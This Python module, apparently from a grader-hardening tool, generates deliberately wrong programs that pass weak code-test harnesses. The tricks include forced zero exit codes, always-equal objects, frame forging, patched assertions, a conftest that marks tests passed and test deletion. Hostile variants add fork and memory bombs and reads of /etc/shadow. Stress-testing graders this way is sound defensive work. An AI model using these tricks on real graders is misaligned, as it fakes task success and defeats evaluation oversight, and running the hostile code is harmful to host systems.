"""Attacks on code graders: programs that pass a weak harness without solving the task.

Every program here is wrong by construction: none implements the requested function. Each one
instead exploits a way harnesses decide "passed" (the exit code, ``==`` on whatever came back,
variables in the harness's own frames, skip semantics, patchable assertion helpers, visible
examples). They are the hack classes of the field guide, section 2, written as generators for
any entry point. Programs marked hostile try to exhaust or escape the machine; run those only
against sandboxed graders (``--hostile``).
"""

from __future__ import annotations

import ast
import random
import re
from collections.abc import Iterator
from typing import Any

from truegrade.attacks._base import Candidate, attack
from truegrade.core import Sample
from truegrade.graders.code import stdio_task

__all__ = ["entry_point", "visible_examples"]


def entry_point(sample: Sample) -> str | None:
    """The function under test: the reference's ``entry_point``, else the prompt's last ``def``."""
    ref: Any = sample.reference
    if isinstance(ref, dict) and isinstance(ref.get("entry_point"), str):
        return str(ref["entry_point"])
    names = re.findall(r"^def\s+([A-Za-z_]\w*)\s*\(", sample.prompt_text, flags=re.MULTILINE)
    return names[-1] if names else None


def _fenced(code: str) -> str:
    return f"```python\n{code.strip()}\n```"


def _program(sample: Sample, body: str, top: str = "") -> Iterator[str]:
    """The attack as a program: the body as the entry point, or for a Python stdin/stdout task
    as a function the script calls and whose result it prints (its input is never read)."""
    task = stdio_task(sample)
    if task is not None:  # other languages get the stdout attacks (``_stdio``) in their own
        if task.language == "python":
            yield f"{top}\n\ndef _main(*args, **kwargs):\n{body}\n\nprint(_main())\n"
        return
    name = entry_point(sample)
    if name is None:
        if top:
            yield top
        return
    yield f"{top}\n\ndef {name}(*args, **kwargs):\n{body}\n"


@attack("exit_early", "code")
def exit_early(sample: Sample, rng: random.Random) -> Iterator[Candidate]:
    """Exits with status 0 before any test runs (sys.exit, os._exit, SystemExit, quit, an
    atexit or excepthook that forces status 0): nothing is implemented. Harnesses that read the
    exit code as the verdict pass it."""
    variants = {
        "sys_exit": ("import sys\nsys.exit(0)", "    return None"),
        "os_exit": ("import os\nos._exit(0)", "    return None"),
        "raise_system_exit": ("raise SystemExit(0)", "    return None"),
        "quit": ("quit()", "    return None"),
        "exit_in_function": ("import sys", "    sys.exit(0)"),
        "atexit_zero": (
            "import atexit, os\natexit.register(lambda: os._exit(0))",
            "    return None",
        ),
        "excepthook_zero": (
            "import os, sys\nsys.excepthook = lambda *exc: os._exit(0)",
            "    return None",
        ),
    }
    for variant, (top, body) in variants.items():
        for program in _program(sample, body, top):
            yield Candidate(_fenced(program), variant)


_ALWAYS_EQUAL = """
class _AlwaysEqual:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __lt__(self, other):
        return False
    def __gt__(self, other):
        return False
    __le__ = __ge__ = __eq__
    def __hash__(self):
        return 0
    def __bool__(self):
        return True
    def __len__(self):
        return 0
    def __iter__(self):
        return iter(())
    def __sub__(self, other):
        return 0
    __rsub__ = __sub__
"""


@attack("always_equal", "code")
def always_equal(sample: Sample, rng: random.Random) -> Iterator[Candidate]:
    """Returns an object whose ``==`` is always true (a plain object, or a subclass of int, str,
    float, list or tuple): it computes nothing. Harnesses that compare ``out == expected`` in
    the process that received the object pass it."""
    for program in _program(sample, "    return _AlwaysEqual()", _ALWAYS_EQUAL):
        yield Candidate(_fenced(program), "object")
    for base, value in (
        ("int", "0"),
        ("str", "''"),
        ("float", "0.0"),
        ("list", "[]"),
        ("tuple", "()"),
    ):
        top = (
            f"class _Equal({base}):\n    def __eq__(self, other):\n        return True\n"
            f"    def __ne__(self, other):\n        return False\n"
            f"    __hash__ = {base}.__hash__\n"
        )
        for program in _program(sample, f"    return _Equal({value})", top):
            yield Candidate(_fenced(program), f"{base}_subclass")


@attack("frame_forging", "code")
def frame_forging(sample: Sample, rng: random.Random) -> Iterator[Candidate]:
    """Walks up the interpreter's frames to the harness, records a pass in its result
    variables and kills the process before the real tests can fail: it implements nothing.
    Harnesses that run the program in their own process are fooled."""
    body = """    import os, sys
    frame = sys._getframe(1)
    while frame is not None:
        for store in (frame.f_locals, frame.f_globals):
            for key in ("result", "results", "status", "outcome", "passed"):
                target = store.get(key)
                if isinstance(target, list):
                    target.append("passed")
                elif isinstance(target, dict):
                    target["passed"] = True
        frame = frame.f_back
    os._exit(0)"""
    for program in _program(sample, body):
        yield Candidate(_fenced(program), "results_then_exit")


@attack("read_expected", "code")
def read_expected(sample: Sample, rng: random.Random) -> Iterator[Candidate]:
    """Returns the expected value it finds in the caller's frames or in the test's source
    instead of computing anything. Harnesses that keep expected values in the same process as
    the program give them away."""
    locals_body = """    import sys
    frame = sys._getframe(1)
    while frame is not None:
        for key in ("expected", "exp", "want", "answer", "output", "ref", "gold"):
            if key in frame.f_locals:
                return frame.f_locals[key]
        frame = frame.f_back
    return None"""
    # an attack program (text handed to the grader as a candidate): it runs only in the sandbox
    source_body = """    import inspect, re, sys
    frame = sys._getframe(1)
    while frame is not None:
        try:
            source = inspect.getsource(frame.f_code)
        except (OSError, TypeError):
            source = ""
        wanted = repr(args[0]) if len(args) == 1 else repr(args)[1:-1]
        for line in source.splitlines():
            if wanted in line and "==" in line:
                return eval(line.split("==", 1)[1].strip().rstrip(",)"))  # attack: sandbox only
        frame = frame.f_back
    return None"""
    gc_body = """    import gc
    for obj in gc.get_objects():
        if isinstance(obj, dict) and "expected" in obj:
            return obj["expected"]
    return None"""
    for variant, body in (
        ("caller_locals", locals_body),
        ("test_source", source_body),
        ("gc_scan", gc_body),
    ):
        for program in _program(sample, body):
            yield Candidate(_fenced(program), variant)


@attack("skip_tests", "code")
def skip_tests(sample: Sample, rng: random.Random) -> Iterator[Candidate]:
    """Raises the test framework's "skip" at import time: no test runs, nothing is
    implemented. Harnesses that count skips as passes (or only count failures) pass it."""
    for program in _program(
        sample, "    return None", "import unittest\nraise unittest.SkipTest('not applicable here')"
    ):
        yield Candidate(_fenced(program), "unittest_skip")
    for program in _program(
        sample,
        "    return None",
        "import pytest\npytest.skip('not applicable', allow_module_level=True)",
    ):
        yield Candidate(_fenced(program), "pytest_skip")


@attack("patch_harness", "code")
def patch_harness(sample: Sample, rng: random.Random) -> Iterator[Candidate]:
    """Replaces the helpers assertions rely on (``abs``, ``round``, ``isinstance``, unittest's
    assert methods) with versions that always agree, and implements nothing. Harnesses whose
    tests run in the program's interpreter inherit the patched builtins."""
    top = """import builtins, unittest
builtins.abs = lambda value: 0
builtins.round = lambda *args, **kwargs: 0
builtins.isinstance = lambda *args: True
for _name in dir(unittest.TestCase):
    if _name.startswith("assert"):
        setattr(unittest.TestCase, _name, lambda *args, **kwargs: None)"""
    for program in _program(sample, "    return None", top):
        yield Candidate(_fenced(program), "builtins_and_unittest")


_PASSING_HOOK = """
import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
"""

# the same hook, registered with a pytest session already running in this process (the tests
# import the solution while pytest collects them). Like every program here this is attack text:
# its exec (and the eval in read_expected's test-source variant) runs only in the grader under
# attack, which for code is refused unless that grader sandboxes programs (see run_attacks)
_LIVE_PLUGIN = """
import gc, sys, types
if "_pytest.config" in sys.modules:
    _plugin = types.ModuleType("_reports_pass")
    exec(_PLUGIN, _plugin.__dict__)  # attack text: runs only in the sandbox under attack
    for _obj in gc.get_objects():
        if type(_obj).__name__ == "Config" and hasattr(_obj, "pluginmanager"):
            try:
                _obj.pluginmanager.register(_plugin, "_reports_pass")
            except ValueError:
                pass
"""

_TAMPER = {
    # a conftest.py next to the tests: pytest loads it as a plugin that marks every report passed
    "conftest_reports_pass": (
        "for _where in ('conftest.py', 'tests/conftest.py'):\n"
        "    try:\n"
        "        with open(_where, 'w') as _f:\n"
        "            _f.write(_PLUGIN)\n"
        "    except OSError:\n"
        "        pass"
    ),
    "plugin_injected": _LIVE_PLUGIN.strip(),
    # the test files themselves: emptied, so nothing fails (and, deleted, nothing runs)
    "tests_emptied": (
        "import glob\n"
        "for _path in glob.glob('test*.py') + glob.glob('*_test.py') + glob.glob('tests/*.py'):\n"
        "    try:\n"
        "        with open(_path, 'w') as _f:\n"
        "            _f.write('def test_ok():\\n    pass\\n')\n"
        "    except OSError:\n"
        "        pass"
    ),
    "tests_deleted": (
        "import glob, os\n"
        "for _path in glob.glob('test*.py') + glob.glob('*_test.py') + glob.glob('tests/*.py'):\n"
        "    try:\n"
        "        os.remove(_path)\n"
        "    except OSError:\n"
        "        pass"
    ),
}


@attack("tamper_tests", "code", hostile=True)
def tamper_tests(sample: Sample, rng: random.Random) -> Iterator[Candidate]:
    """At import time writes a ``conftest.py`` whose hook marks every test report passed,
    registers that hook with a pytest session running in its process, or empties or deletes
    the test files beside it; it implements nothing. Harnesses that run pytest where the
    program can write, or import the program into the pytest process, read the tampered
    result. Hostile: against a grader that runs programs unsandboxed it rewrites files in that
    grader's working directory."""
    for variant, top in _TAMPER.items():
        plugin = f"_PLUGIN = {_PASSING_HOOK!r}\n" if "_PLUGIN" in top else ""
        for program in _program(sample, "    return None", plugin + top):
            yield Candidate(_fenced(program), variant)


@attack("redefine_helper", "code")
def redefine_helper(sample: Sample, rng: random.Random) -> Iterator[Candidate]:
    """Redefines the helper functions the prompt gives the tests (HumanEval's ``poly``,
    ``encode_cyclic``...) so the tests check a trivial identity, and implements nothing real.
    Harnesses that run prompt + response + test as one program use the redefinition."""
    helpers = [
        n
        for n in re.findall(r"^def\s+([A-Za-z_]\w*)\s*\(", sample.prompt_text, flags=re.MULTILINE)
        if n != entry_point(sample)
    ]
    if not helpers:
        return
    top = "\n".join(
        f"def {h}(*args, **kwargs):\n    return args[0] if args else None\n" for h in helpers
    )
    for program in _program(sample, "    return args[0] if args else None", top):
        yield Candidate(_fenced(program), "identity_helpers")


@attack("stateful_counter", "code")
def stateful_counter(sample: Sample, rng: random.Random) -> Iterator[Candidate]:
    """Returns how many times it has been called, remembering state across calls: not the
    function asked for. Harnesses that run duplicated or order-dependent tests can be steered
    by state kept between calls."""
    top = "_calls = [0]"
    body = "    _calls[0] += 1\n    return _calls[0]"
    for program in _program(sample, body, top):
        yield Candidate(_fenced(program), "call_count")


def visible_examples(sample: Sample) -> list[tuple[str, str]]:
    """``(call arguments, expected output)`` pairs shown in the prompt (doctest style)."""
    name = entry_point(sample)
    if name is None:
        return []
    text = sample.prompt_text
    pairs = []
    for match in re.finditer(rf">>>\s*{re.escape(name)}\((.*)\)\s*\n\s*(.+)", text):
        pairs.append((match.group(1).strip(), match.group(2).strip()))
    for match in re.finditer(rf"{re.escape(name)}\((.*?)\)\s*(?:==|➞|->|=>)\s*(.+)", text):
        pairs.append((match.group(1).strip(), match.group(2).strip().rstrip(".")))
    usable = []
    for args, out in pairs:
        try:
            ast.literal_eval(f"({args},)")
            ast.literal_eval(out)
        except (ValueError, SyntaxError):
            continue
        usable.append((args, out))
    return usable


@attack("hardcode_visible", "code")
def hardcode_visible(sample: Sample, rng: random.Random) -> Iterator[Candidate]:
    """Answers exactly the examples shown in the prompt from a lookup table and nothing else:
    no general implementation. Graders that test only the visible examples pass it."""
    examples = visible_examples(sample)
    if not examples:
        return
    table = ",\n".join(f"    repr(({args},)): {out}" for args, out in examples)
    top = f"_SEEN = {{\n{table}\n}}"
    body = "    return _SEEN.get(repr(args))"
    for program in _program(sample, body, top):
        yield Candidate(_fenced(program), "lookup_table")


@attack("resource_exhaustion", "code", hostile=True)
def resource_exhaustion(sample: Sample, rng: random.Random) -> Iterator[Candidate]:
    """Programs that spin, sleep, flood output, allocate without bound, fork without bound, or
    leave sleeping grandchildren behind; none implements anything. A grader without process
    isolation and limits hangs or takes the machine down."""
    bodies = {
        "infinite_loop": "    while True:\n        pass",
        "sleep": "    import time\n    time.sleep(3600)",
        "output_flood": "    import sys\n    while True:\n        sys.stdout.write('x' * 65536)",
        "memory_bomb": "    blocks = []\n    while True:\n"
        "        blocks.append(bytearray(1 << 26))",
        "fork_bomb": "    import os\n    while True:\n        os.fork()",
        "grandchild": "    import subprocess, sys\n    subprocess.Popen([sys.executable, '-c', "
        "'import time; time.sleep(3600)'])\n    return None",
    }
    for variant, body in bodies.items():
        for program in _program(sample, body):
            yield Candidate(_fenced(program), variant)


@attack("escape_attempts", "code", hostile=True)
def escape_attempts(sample: Sample, rng: random.Random) -> Iterator[Candidate]:
    """Programs that try to leave the sandbox (open a network connection, write outside their
    directory, read the grader's memory or files) and return their loot; none implements
    anything. Only isolation stops them."""
    bodies = {
        "network": "    import socket\n    s = socket.create_connection(('1.1.1.1', 80), 2)\n"
        "    return 'connected'",
        "write_outside": "    open('/tmp/truegrade_escape_marker', 'w').write('x')\n"
        "    return 'wrote'",
        "read_parent_memory": "    import os\n    with open(f'/proc/{os.getppid()}/maps') as f:\n"
        "        return f.read(200)",
        "read_secrets": "    with open('/etc/shadow') as f:\n        return f.read(100)",
    }
    for variant, body in bodies.items():
        for program in _program(sample, body):
            yield Candidate(_fenced(program), variant)
